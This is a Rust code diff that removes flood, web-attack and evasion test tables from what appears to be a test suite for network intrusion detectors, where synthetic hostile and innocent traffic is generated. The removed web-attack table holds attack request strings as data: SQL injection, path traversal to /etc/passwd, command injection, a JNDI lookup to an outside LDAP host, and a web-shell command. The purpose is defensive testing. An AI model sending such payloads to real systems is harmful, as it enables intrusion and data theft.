@@ -1,4 +1,4 @@
-//! The grids of the detectors of attacks on hosts, services and controllers.
+//! The grids of the detectors of attacks on hosts and controllers.
 
 use lab::Random;
 use model::{Direction, EchoShape, Event};
@@ -27,12 +27,6 @@ pub(super) fn tables() -> Vec<Table> {
         kerberos_innocent(),
         plc(),
         plc_innocent(),
-        flood(),
-        flood_innocent(),
-        web_attack(),
-        web_innocent(),
-        evasion(),
-        evasion_innocent(),
         keystrokes(),
         keystrokes_innocent(),
         remote_tool(),
@@ -579,164 +573,6 @@ fn plc_innocent() -> Table {
         facts.take()
     });
     Table { detector: "plc", hostile: false, title: "A plant at work", corner: "traffic", columns, rows }
-}
-
-fn flood() -> Table {
-    let rows = [
-        ("half-open connections".to_owned(), 0_u8),
-        ("answers of resolvers".to_owned(), 1),
-        ("slow requests".to_owned(), 2),
-    ];
-    let columns = named(&[10_u32, 50, 200, 1_000], " a second");
-    let (columns, rows) = grid(&rows, &columns, "flood", |random, kind, rate| {
-        let mut facts = Facts::default();
-        for n in 0..rate * 5 {
-            let client = match kind {
-                2 => "198.51.100.7".to_owned(),
-                _ => format!("198.{}.{}.{}", 18 + random.below(2), random.below(250), random.below(250)),
-            };
-            let ends = Ends {
-                client: &client,
-                server: "10.0.0.80",
-                port: 80,
-                transport: if kind == 1 { 17 } else { 6 },
-            };
-            let payload = [[0, 0], [3_000, 0], [240, 0]][usize::from(kind)];
-            facts.flow(f64::from(n) / f64::from(rate), ends, payload, |fact| {
-                fact.established = kind == 2;
-                fact.packets = [1, 0];
-                fact.tcp_flags = [2, 0];
-                if kind == 1 {
-                    fact.who.client_port = 53;
-                }
-                if kind == 2 {
-                    fact.last = fact.who.began.plus_secs(9);
-                }
-            });
-        }
-        facts.take()
-    });
-    Table {
-        detector: "flood",
-        hostile: true,
-        title: "Five seconds of a flood",
-        corner: "kind",
-        columns,
-        rows,
-    }
-}
-
-fn flood_innocent() -> Table {
-    let rows =
-        [("a shop with many visitors".to_owned(), 0_u8), ("a resolver that is slow at times".to_owned(), 1)];
-    let columns = named(&[50_u32, 200], " a second");
-    let (columns, rows) = grid(&rows, &columns, "flood", |random, kind, rate| {
-        let mut facts = Facts::default();
-        for n in 0..rate * 5 {
-            let client = format!("198.18.{}.{}", random.below(250), random.below(250));
-            let ends = Ends {
-                client: &client,
-                server: "10.0.0.80",
-                port: if kind == 0 { 443 } else { 53 },
-                transport: if kind == 0 { 6 } else { 17 },
-            };
-            let lost = kind == 1 && share(random) < 0.2;
-            facts.flow(f64::from(n) / f64::from(rate), ends, [500, if lost { 0 } else { 9_000 }], |fact| {
-                fact.packets = [1, u64::from(!lost)];
-            });
-        }
-        facts.take()
-    });
-    Table { detector: "flood", hostile: false, title: "Many visitors", corner: "traffic", columns, rows }
-}
-
-fn web_attack() -> Table {
-    let rows = [
-        ("SQL".to_owned(), "/p.php?id=1%27+UNION+SELECT+1,2,3--"),
-        ("paths that climb".to_owned(), "/view?f=../../../../etc/passwd"),
-        ("commands".to_owned(), "/ping?host=1.2.3.4;cat%20/tmp/x"),
-        ("look-ups (JNDI)".to_owned(), "/x?q=$%7Bjndi:ldap://203.0.113.9/a%7D"),
-        ("a web shell".to_owned(), "/s.php?cmd=whoami"),
-    ];
-    let columns = [("answered 404".to_owned(), "404"), ("answered 200".to_owned(), "200")];
-    let (columns, rows) = grid(&rows, &columns, "web_attack", |_, uri, status| requests(&[uri], status));
-    Table { detector: "web_attack", hostile: true, title: "One request", corner: "attack", columns, rows }
-}
-
-fn requests(uris: &[&str], status: &str) -> Vec<Event> {
-    let mut facts = Facts::default();
-    let ends = Ends { client: "198.51.100.7", server: "10.0.0.80", port: 80, transport: 6 };
-    for (n, uri) in uris.iter().enumerate() {
-        let fields = [
-            ("http.method", "GET"),
-            ("http.uri", *uri),
-            ("http.host", "shop.example"),
-            ("http.stat_code", status),
-        ];
-        facts.exchange(n as f64, ends, "http", None, &fields);
-    }
-    facts.take()
-}
-
-fn web_innocent() -> Table {
-    let rows = [
-        (
-            "searches that name parts of queries".to_owned(),
-            ["/search?q=western+union+select+a+branch", "/search?q=select+a+wine+from+france"],
-        ),
-        ("marks in values".to_owned(), ["/a?sort=asc|desc&f=(a+b)*c", "/news?title=the+king's+speech"]),
-        ("relative links".to_owned(), ["/doc/../img/logo.png", "/a/b/../../c.css"]),
-    ];
-    let columns = named(&[1_usize, 50], " times");
-    let (columns, rows) = grid(&rows, &columns, "web_attack", |_: &mut Random, uris, times| {
-        requests(&uris.repeat(times), "200")
-    });
-    Table {
-        detector: "web_attack",
-        hostile: false,
-        title: "Ordinary requests",
-        corner: "requests",
-        columns,
-        rows,
-    }
-}
-
-fn odd(kind: &'static str, count: u32) -> Vec<Event> {
-    let mut facts = Facts::default();
-    (0..count).for_each(|n| facts.oddity(f64::from(n), kind));
-    facts.take()
-}
-
-fn evasion() -> Table {
-    let rows = [
-        ("fragments that overlap".to_owned(), "decoder.ipv4.frag_overlap"),
-        ("segments sent again with other bytes".to_owned(), "stream.reassembly_overlap_different_data"),
-        ("unknown options of IPv6".to_owned(), "decoder.ipv6.dstopts_unknown_opt"),
-        ("requests of two lengths".to_owned(), "DUPLICATE_CONTENT_LENGTH_FIELD_IN_REQUEST"),
-    ];
-    let columns = named(&[1_u32, 3, 10], " times");
-    let (columns, rows) = grid(&rows, &columns, "evasion", |_, kind, count| odd(kind, count));
-    Table { detector: "evasion", hostile: true, title: "What is read two ways", corner: "way", columns, rows }
-}
-
-fn evasion_innocent() -> Table {
-    let rows = [
-        (
-            "a byte that keeps a connection alive".to_owned(),
-            ("stream.reassembly_overlap_different_data", 1_u32),
-        ),
-        ("padding that is missing".to_owned(), ("decoder.ipv4.opt_pad_required", 100)),
-    ];
-    let columns = named(&[1_u32], " pair of hosts");
-    let (columns, rows) = grid(&rows, &columns, "evasion", |_, (kind, count), _| odd(kind, count));
-    Table {
-        detector: "evasion",
-        hostile: false,
-        title: "What is only untidy",
-        corner: "oddity",
-        columns,
-        rows,
-    }
 }
 
 /// One long connection to the outside in which `side` speaks after each pause.
